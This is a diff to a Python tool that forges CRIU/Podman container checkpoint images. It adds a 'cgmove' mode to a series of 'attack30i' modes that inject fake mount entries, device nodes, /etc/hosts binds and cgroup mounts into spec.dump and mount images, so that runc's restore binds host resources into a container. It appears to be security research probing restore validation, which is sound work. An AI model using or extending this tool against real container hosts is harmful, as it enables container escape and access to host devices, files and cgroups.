@@ -51,13 +51,16 @@ MODE devetc:  UNSIGNED (attack30i): spec.dump gains a device {path ARG (default 
 MODE devnode: UNSIGNED (attack30i, after 053167a): ARG PATH:MAJ:MIN, a spec device at a real device node of this node
               (it passes _host_node_is) and an external mount at PATH keyed PATH under the mount that holds PATH: runc
               binds the HOST's node there. /dev/pts/ptmx (c 5:2, runc's ptmx) is the host devpts instance's ptmx.
+MODE cgmove: UNSIGNED (attack30i, after 053167a): spec.dump gains a cgroup mount ($CGOPT: rw or ro) at ARG (default /mnt) and the image
+              an external mount at ARG/pids keyed ARG/pids, "a tmpfs", read-write: runc's restore maps each hierarchy of a
+              spec cgroup mount (DEST/<name>) to its cgroup; the new rule reads only external mounts under /sys/fs/cgroup.
 MODE samedev: UNSIGNED (attack30i): a whole "tmpfs" (root "/", allowed anywhere) at /mnt whose root_dev is the host disk's
               (that of the external /etc/hosts mount): does CRIU make it a bind of that filesystem's root?
 MODE racehosts: SIGNED; spec.dump gains a second /etc/hosts bind from ARG/overlay-containers/<ID>/userdata/hosts
               (ARG: a running container's MERGED/attack30i, where that container flips userdata between a real
               directory and a link to /etc: check-then-use).
 """
-import io, json, sys, tarfile
+import io, json, os, sys, tarfile
 import zstandard
 
 src, out, mode = sys.argv[1:4]
@@ -73,7 +76,7 @@ devtar = "checkpoint/tmpfs-dev-%d.tar.gz.img" % next(
     e["root_dev"] & 0xfffff for e in pycriu.images.loads(_mnt)["entries"] if e["mountpoint"] == "/dev")
 fwtar = "checkpoint/tmpfs-dev-%d.tar.gz.img" % next(
     e["root_dev"] & 0xfffff for e in pycriu.images.loads(_mnt)["entries"] if e["mountpoint"] == "/sys/firmware")
-UNSIGNED = mode in ("dslash", "ctrlink", "tmpfsbind", "procroot", "cgext", "cgdevext", "nosig", "cgflip", "cgdevflip", "maskorder", "masksub", "mntlink", "devetc", "samedev", "devnode")
+UNSIGNED = mode in ("dslash", "ctrlink", "tmpfsbind", "procroot", "cgext", "cgdevext", "nosig", "cgflip", "cgdevflip", "maskorder", "masksub", "mntlink", "devetc", "samedev", "devnode", "cgmove")
 if mode == "dslash":
     source = f"/var/lib/containers/storage/overlay-containers//{cid}/userdata/attack30i-l/overlay-containers/{cid}/etc"
 elif mode == "ctrlink":
@@ -126,6 +129,12 @@ def mounts(data):
             mask = next(i for i, e in enumerate(entries) if e["mountpoint"] == point)
             entries.insert(mask, dict(base, mnt_id=780 + n, parent_mnt_id=base["mnt_id"], root=root, mountpoint=point,
                                       flags=0x200000 | 0xf))  # read-only, nosuid, nodev, noexec
+        buf = io.BytesIO(); pycriu.images.dump(doc, buf); return buf.getvalue()
+    if mode == "cgmove":  # attack30i: the pids hierarchy's copy at ARG/pids (ARG default /mnt), keyed there, "a tmpfs", rw
+        cg = next(e for e in entries if e["mountpoint"] == "/sys/fs/cgroup/pids")
+        point = (arg or "/mnt") + "/pids"
+        entries.append(dict(cg, mnt_id=830, parent_mnt_id=root["mnt_id"], mountpoint=point, ext_key=point, fstype=5,
+                            flags=0x200000, sb_flags=0))
         buf = io.BytesIO(); pycriu.images.dump(doc, buf); return buf.getvalue()
     if mode in ("cgflip", "cgdevflip"):
         cg = next(e for e in entries if e["mountpoint"] == "/sys/fs/cgroup/" + ("pids" if mode == "cgflip" else "devices"))
@@ -228,6 +237,9 @@ with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as 
             elif mode == "devetc":
                 spec["linux"]["devices"] = (spec["linux"].get("devices") or []) + [
                     {"path": arg or "/etc", "type": "c", "major": 1, "minor": 3, "fileMode": 438, "uid": 0, "gid": 0}]
+            elif mode == "cgmove":  # a second cgroup mount, read-write, at ARG: runc maps ARG/<hierarchy> to its cgroups
+                spec["mounts"].append({"destination": arg or "/mnt", "type": "cgroup", "source": "cgroup",
+                                       "options": [os.environ.get("CGOPT", "rw"), "nosuid", "noexec", "nodev", "relatime"]})
             elif mode == "devnode":  # ARG PATH:MAJ:MIN
                 path, major, minor = arg.split(":")
                 spec["linux"]["devices"] = (spec["linux"].get("devices") or []) + [
